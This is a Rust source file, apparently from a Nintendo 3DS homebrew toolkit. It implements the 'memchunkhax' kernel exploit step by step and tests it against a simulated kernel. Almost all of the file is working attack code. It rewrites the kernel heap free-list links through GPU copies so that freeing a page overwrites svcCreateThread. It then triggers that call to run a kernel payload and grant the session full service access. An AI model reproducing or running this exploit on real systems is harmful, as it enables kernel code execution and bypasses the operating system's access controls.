use crate::payload::{MemChunkFixups, PAYLOAD_SENTINEL, memchunk_kernel_payload};
use khax_core::error::HostOp;
use khax_core::gspwn::{CacheNuke, CrossCopy};
use khax_core::host::{Horizon, MemOp, MemPerm};
use khax_core::memory::free_block::PREV_OFFSET;
use khax_core::memory::{KernelAddr, PageSet, VirtAddr};
use khax_core::session::SessionCore;
use khax_core::util::PAGE_SIZE;
use khax_core::version::VersionDescriptor;
use khax_core::{Exploit, KhaxConfig, KhaxError, Result, TechniqueKind, grant};
use log::{debug, info};
use std::sync::Arc;

/// Number of linear pages in the playground.
pub const PAGE_COUNT: usize = 6;
/// Size of the scratch buffer used for GPU copies.
pub const SCRATCH_SIZE: usize = 64;
/// Number of steps.
pub const STEP_COUNT: u32 = 7;
/// Processor id that fails svcCreateThread's validation.
pub const TRIGGER_PROCESSOR: i32 = 0x7FFF_FFFF;

const STEP_NAMES: [&str; STEP_COUNT as usize] = [
    "initialize",
    "allocate",
    "surround free",
    "verify layout",
    "corrupt svcCreateThread",
    "trigger",
    "grant service access",
];

/// Legacy heap-coalesce session.
///
/// The playground looks like this after step 3 (`X` allocated, `-` freed by
/// us):
///
/// ```text
/// XX-X-X
/// ```
///
/// Freeing page 1 in step 5 makes the kernel merge it with page 2 and store
/// page 1's address at `page2.next + 8`, which step 5 aimed at the
/// svcCreateThread patch site.
pub struct MemChunkHax<H: Horizon + 'static> {
    core: SessionCore<H>,
    pages: Option<PageSet>,
    scratch: Option<VirtAddr>,
    nuke: Option<CacheNuke>,
}

impl<H: Horizon + 'static> MemChunkHax<H> {
    /// Registers a session for `descriptor`.
    ///
    /// Fails with [`KhaxError::Unsupported`] for kernels without a
    /// svcCreateThread patch site and with [`KhaxError::SessionActive`] while
    /// another session is registered.
    pub fn new(host: Arc<H>, descriptor: &'static VersionDescriptor, config: KhaxConfig) -> Result<Self> {
        let patch = match descriptor.technique() {
            Some(TechniqueKind::LegacyHeapCoalesce) => descriptor.thread_patch_address,
            _ => None,
        }
        .ok_or(KhaxError::Unsupported {
            kernel: descriptor.kernel_version,
            technique: TechniqueKind::LegacyHeapCoalesce,
        })?;
        let core = SessionCore::new(
            "memchunkhax",
            STEP_COUNT,
            host,
            descriptor,
            config,
            MemChunkFixups::new(patch),
        )?;
        Ok(MemChunkHax {
            core,
            pages: None,
            scratch: None,
            nuke: None,
        })
    }

    /// The playground pages, once allocated.
    pub fn pages(&self) -> Option<&PageSet> {
        self.pages.as_ref()
    }

    /// Session state shared with the kernel payload.
    pub fn shared(&self) -> &khax_core::session::SessionShared {
        self.core.shared()
    }

    fn playground(&self) -> Result<(&PageSet, VirtAddr, &CacheNuke)> {
        match (&self.pages, self.scratch, &self.nuke) {
            (Some(pages), Some(scratch), Some(nuke)) => Ok((pages, scratch, nuke)),
            _ => Err(KhaxError::OutOfMemory(SCRATCH_SIZE)),
        }
    }

    fn release_playground(&mut self) {
        let host = self.core.host();
        if let Some(mut pages) = self.pages.take() {
            pages.release(host);
        }
        if let Some(scratch) = self.scratch.take() {
            host.linear_free(scratch);
        }
        if let Some(nuke) = self.nuke.take() {
            nuke.release(host);
        }
    }

    fn kernel_address(&self, addr: VirtAddr) -> Result<KernelAddr> {
        self.core
            .descriptor()
            .translate_user_to_kernel(self.core.host(), addr)
            .ok_or(KhaxError::Translation(addr))
    }

    /// Step 1: nothing to prepare.
    pub fn step1_initialize(&mut self) -> Result<()> {
        self.core.begin(1)?;
        self.core.complete(1);
        Ok(())
    }

    /// Step 2: allocate the playground, the scratch buffer and the cache
    /// eviction buffer.
    ///
    /// A retry after a failed attempt releases whatever the failed attempt
    /// left behind first.
    pub fn step2_allocate(&mut self) -> Result<()> {
        self.core.begin(2)?;
        self.release_playground();
        let host = self.core.host();
        let base = host
            .control_memory(
                MemOp::AllocLinear,
                VirtAddr::NULL,
                PAGE_COUNT * PAGE_SIZE,
                MemPerm::ReadWrite,
            )
            .op("svcControlMemory")?;
        debug!("playground at {}", base);
        self.pages = Some(PageSet::allocated(base, PAGE_COUNT));
        if !base.is_page_aligned() {
            return Err(KhaxError::Misaligned(base));
        }

        let scratch = host
            .linear_alloc(SCRATCH_SIZE, SCRATCH_SIZE)
            .ok_or(KhaxError::OutOfMemory(SCRATCH_SIZE))?;
        self.scratch = Some(scratch);
        debug!("scratch at {}", scratch);
        self.nuke = Some(CacheNuke::new(host, self.core.config().cache_nuke_size)?);

        self.core.complete(2);
        Ok(())
    }

    /// Step 3: free pages 2 and 4 so that page 3 is boxed in by free blocks
    /// and every neighbor is a page we own.
    pub fn step3_surround_free(&mut self) -> Result<()> {
        self.core.begin(3)?;
        let host = self.core.host();
        let pages = self.pages.as_mut().ok_or(KhaxError::OutOfMemory(PAGE_SIZE))?;
        pages.free_page(host, 2).op("svcControlMemory")?;
        pages.free_page(host, 4).op("svcControlMemory")?;
        if self.core.config().probe_pages {
            for index in (0..pages.len()).filter(|i| pages.is_allocated(*i)) {
                host.write_word(pages.page(index), 0).op("probe")?;
            }
        }
        debug!("allocation mask {:06b}", pages.allocated_mask());
        self.core.complete(3);
        Ok(())
    }

    /// Step 4: check that the two freed pages link to each other.
    pub fn step4_verify_layout(&mut self) -> Result<()> {
        self.core.begin(4)?;
        let (pages, scratch, nuke) = self.playground()?;
        let host = self.core.host();
        let copy = CrossCopy::new(host, nuke, self.core.config().copy_timeout);
        let kernel2 = self.kernel_address(pages.page(2))?;
        let kernel4 = self.kernel_address(pages.page(4))?;

        let block = copy.read_free_block(scratch, pages.page(2))?;
        debug!("[2] u={} k={} {:?}", pages.page(2), kernel2, block);
        if block.next() != kernel4 {
            return Err(KhaxError::LayoutMismatch {
                page: 2,
                field: "next",
                expected: kernel4,
                actual: block.next(),
            });
        }

        let block = copy.read_free_block(scratch, pages.page(4))?;
        debug!("[4] u={} k={} {:?}", pages.page(4), kernel4, block);
        if block.prev() != kernel2 {
            return Err(KhaxError::LayoutMismatch {
                page: 4,
                field: "prev",
                expected: kernel2,
                actual: block.prev(),
            });
        }

        self.core.complete(4);
        Ok(())
    }

    /// Step 5: point page 2's forward link 8 bytes before the patch site and
    /// free page 1.
    pub fn step5_corrupt(&mut self) -> Result<()> {
        self.core.begin(5)?;
        let (pages, scratch, nuke) = self.playground()?;
        let host = self.core.host();
        let copy = CrossCopy::new(host, nuke, self.core.config().copy_timeout);
        let patch = self
            .core
            .descriptor()
            .thread_patch_address
            .ok_or(KhaxError::Unsupported {
                kernel: self.core.descriptor().kernel_version,
                technique: TechniqueKind::LegacyHeapCoalesce,
            })?;
        let kernel1 = self.kernel_address(pages.page(1))?;
        let kernel4 = self.kernel_address(pages.page(4))?;
        let fixups = self
            .core
            .shared()
            .fixups::<MemChunkFixups>()
            .ok_or(KhaxError::PayloadNotRun)?;
        fixups.set_pages(kernel1, kernel4);

        let mut block = copy.read_free_block(scratch, pages.page(2))?;
        // The coalesce stores into `next->prev`.
        block.set_next(patch.wrapping_sub(PREV_OFFSET as u32));
        // Counted before the write-back: a failed wait may still have landed.
        self.core.corruption().raise(2);
        copy.write_free_block(scratch, pages.page(2), &block)?;

        let pages = self.pages.as_mut().ok_or(KhaxError::OutOfMemory(PAGE_SIZE))?;
        self.core.corruption().raise(1);
        pages.free_page(self.core.host(), 1).op("svcControlMemory")?;
        info!("svcCreateThread patched at {}", patch);

        self.core.complete(5);
        Ok(())
    }

    /// Step 6: call svcCreateThread with an invalid processor id so that its
    /// error path reaches the patched instructions.
    pub fn step6_trigger(&mut self) -> Result<()> {
        self.core.begin(6)?;
        let host = self.core.host();
        let entry = host.kernel_entry_address(memchunk_kernel_payload);
        debug!("kernel payload at 0x{:08x}", entry);
        let result = host.create_thread_raw(entry, 0, 0, 0, TRIGGER_PROCESSOR);
        if result != PAYLOAD_SENTINEL {
            return Err(KhaxError::Trigger(result));
        }
        if !self.core.shared().payload_ran() {
            return Err(KhaxError::PayloadNotRun);
        }
        info!("kernel payload returned 0x{:08x}", result);
        self.core.complete(6);
        Ok(())
    }

    /// Step 7: reconnect to the service manager as process 0.
    pub fn step7_grant_service_access(&mut self) -> Result<()> {
        self.core.begin(7)?;
        grant::grant_service_access(self.core.host())?;
        self.core.complete(7);
        Ok(())
    }
}

impl<H: Horizon + 'static> Exploit for MemChunkHax<H> {
    fn kind(&self) -> TechniqueKind {
        TechniqueKind::LegacyHeapCoalesce
    }

    fn step_count(&self) -> u32 {
        STEP_COUNT
    }

    fn step_name(&self, step: u32) -> &'static str {
        step.checked_sub(1)
            .and_then(|i| STEP_NAMES.get(i as usize))
            .copied()
            .unwrap_or("invalid")
    }

    fn next_step(&self) -> u32 {
        self.core.steps().next()
    }

    fn run_step(&mut self, step: u32) -> Result<()> {
        match step {
            1 => self.step1_initialize(),
            2 => self.step2_allocate(),
            3 => self.step3_surround_free(),
            4 => self.step4_verify_layout(),
            5 => self.step5_corrupt(),
            6 => self.step6_trigger(),
            7 => self.step7_grant_service_access(),
            _ => Err(KhaxError::Sequence {
                session: "memchunkhax",
                requested: step,
                expected: self.next_step(),
            }),
        }
    }

    fn corruption_level(&self) -> u32 {
        self.core.corruption().get()
    }

    fn allocated_mask(&self) -> u32 {
        self.pages.as_ref().map_or(0, PageSet::allocated_mask)
    }
}

impl<H: Horizon + 'static> Drop for MemChunkHax<H> {
    fn drop(&mut self) {
        self.core.park_if_corrupted();
        self.release_playground();
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use khax_core::grant::SVC_ACL_FULL;
    use khax_core::util::Size;
    use khax_core::version::{SystemVersion, THREAD_PATCH_ORIGINAL, lookup};
    use khax_sim::{SimConfig, SimHorizon};
    use serial_test::serial;

    fn config() -> KhaxConfig {
        KhaxConfig {
            cache_nuke_size: Size::KB(64),
            ..Default::default()
        }
    }

    fn session(kernel: SystemVersion, new_3ds: bool) -> (Arc<SimHorizon>, MemChunkHax<SimHorizon>) {
        let sim = Arc::new(SimHorizon::new(SimConfig::new(kernel, new_3ds)));
        let descriptor = lookup(kernel, new_3ds).unwrap();
        let hax = MemChunkHax::new(Arc::clone(&sim), descriptor, config()).unwrap();
        (sim, hax)
    }

    #[test]
    #[serial]
    fn steps_reject_out_of_order_calls() {
        let (_sim, mut hax) = session(SystemVersion::new(2, 46, 0), false);
        assert!(matches!(hax.step2_allocate(), Err(KhaxError::Sequence { .. })));
        assert!(hax.pages().is_none());
        hax.step1_initialize().unwrap();
        assert!(matches!(hax.step1_initialize(), Err(KhaxError::Sequence { .. })));
        assert!(matches!(hax.run_step(8), Err(KhaxError::Sequence { .. })));
        assert_eq!(hax.next_step(), 2);
    }

    #[test]
    #[serial]
    fn bitmask_follows_each_step() {
        let (sim, mut hax) = session(SystemVersion::new(2, 46, 0), false);
        hax.step1_initialize().unwrap();
        hax.step2_allocate().unwrap();
        assert_eq!(hax.allocated_mask(), 0b11_1111);
        hax.step3_surround_free().unwrap();
        assert_eq!(hax.allocated_mask(), 0b10_1011);
        hax.step4_verify_layout().unwrap();
        assert_eq!(hax.allocated_mask(), 0b10_1011);
        let pages = hax.pages().unwrap().clone();
        drop(hax);
        for index in 0..PAGE_COUNT {
            assert!(!sim.is_mapped(pages.page(index)), "page {}", index);
        }
        assert!(sim.free_list_consistent());
    }

    #[test]
    #[serial]
    fn full_run_repairs_the_kernel() {
        let (sim, mut hax) = session(SystemVersion::new(2, 46, 0), false);
        hax.run(None).unwrap();
        assert_eq!(hax.corruption_level(), 0);
        assert_eq!(hax.allocated_mask(), 0b10_1001);
        assert_eq!(sim.thread_patch_bytes(), Some(THREAD_PATCH_ORIGINAL));
        assert!(sim.icache_invalidated(lookup(SystemVersion::new(2, 46, 0), false).unwrap().thread_patch_address.unwrap()));
        assert_eq!(sim.thread_acl(), SVC_ACL_FULL);
        assert!(!sim.interrupts_masked());
        drop(hax);
        assert!(sim.free_list_consistent());
        assert_eq!(sim.kernel_panic(), None);
    }

    #[test]
    #[serial]
    fn foreign_free_block_is_a_layout_mismatch() {
        let (sim, mut hax) = session(SystemVersion::new(2, 36, 0), false);
        hax.step1_initialize().unwrap();
        hax.step2_allocate().unwrap();
        hax.step3_surround_free().unwrap();
        let page2 = hax.pages().unwrap().page(2);
        sim.overwrite_free_link(page2, KernelAddr::new(0xF000_0000)).unwrap();
        let err = hax.step4_verify_layout().unwrap_err();
        assert!(matches!(err, KhaxError::LayoutMismatch { page: 2, .. }), "{}", err);
        assert_eq!(hax.corruption_level(), 0);
    }

    #[test]
    #[serial]
    fn misaligned_playground_is_still_released() {
        let sim = Arc::new(SimHorizon::new(
            SimConfig::new(SystemVersion::new(2, 46, 0), false).misaligned_linear(true),
        ));
        let descriptor = lookup(SystemVersion::new(2, 46, 0), false).unwrap();
        let mut hax = MemChunkHax::new(Arc::clone(&sim), descriptor, config()).unwrap();
        hax.step1_initialize().unwrap();
        let err = hax.step2_allocate().unwrap_err();
        assert!(matches!(err, KhaxError::Misaligned(_)));
        assert_eq!(hax.allocated_mask(), 0b11_1111);
    }

    fn free_page_total(sim: &SimHorizon) -> u32 {
        sim.free_blocks().unwrap().iter().map(|(_, pages)| pages).sum()
    }

    #[test]
    #[serial]
    fn retried_allocation_releases_the_failed_playground() {
        let sim = Arc::new(SimHorizon::new(
            SimConfig::new(SystemVersion::new(2, 46, 0), false).misaligned_linear(true),
        ));
        let before = free_page_total(&sim);
        let descriptor = lookup(SystemVersion::new(2, 46, 0), false).unwrap();
        let mut hax = MemChunkHax::new(Arc::clone(&sim), descriptor, config()).unwrap();
        hax.step1_initialize().unwrap();
        assert!(matches!(hax.step2_allocate(), Err(KhaxError::Misaligned(_))));
        assert_eq!(free_page_total(&sim), before - PAGE_COUNT as u32);
        assert!(matches!(hax.step2_allocate(), Err(KhaxError::Misaligned(_))));
        assert_eq!(free_page_total(&sim), before - PAGE_COUNT as u32);
        assert_eq!(hax.next_step(), 2);
        drop(hax);
        assert_eq!(free_page_total(&sim), before);
        assert!(sim.free_list_consistent());
    }

    #[test]
    #[serial]
    fn failed_write_back_counts_as_corruption() {
        let kernel = SystemVersion::new(2, 46, 0);
        let (sim, mut hax) = session(kernel, false);
        for step in 1..=4 {
            hax.run_step(step).unwrap();
        }
        let page2 = hax.pages().unwrap().page(2);
        let page4 = hax.pages().unwrap().page(4);
        let kernel4 = lookup(kernel, false)
            .unwrap()
            .translate_user_to_kernel(&*sim, page4)
            .unwrap();

        // Read of page 2 succeeds, the write-back's completion is lost.
        sim.fail_copy_wait(2);
        let err = hax.step5_corrupt().unwrap_err();
        assert!(matches!(err, KhaxError::Host { op: "gspWaitForPPF", .. }), "{}", err);
        assert!(hax.corruption_level() >= 2);
        assert_eq!(hax.allocated_mask(), 0b10_1011);
        assert_eq!(hax.next_step(), 5);
        assert_eq!(sim.thread_patch_bytes(), Some(THREAD_PATCH_ORIGINAL));

        // Undo the link by hand so the session can be released.
        sim.overwrite_free_link(page2, kernel4).unwrap();
        hax.shared().corruption().lower(2);
        drop(hax);
        assert!(sim.free_list_consistent());
        assert_eq!(sim.thread_patch_bytes(), Some(THREAD_PATCH_ORIGINAL));
        assert_eq!(sim.kernel_panic(), None);
    }

    #[test]
    #[serial]
    fn vtable_kernels_are_unsupported() {
        let sim = Arc::new(SimHorizon::new(SimConfig::new(SystemVersion::new(2, 50, 11), false)));
        let descriptor = lookup(SystemVersion::new(2, 50, 11), false).unwrap();
        assert!(matches!(
            MemChunkHax::new(sim, descriptor, config()),
            Err(KhaxError::Unsupported { .. })
        ));
    }
}
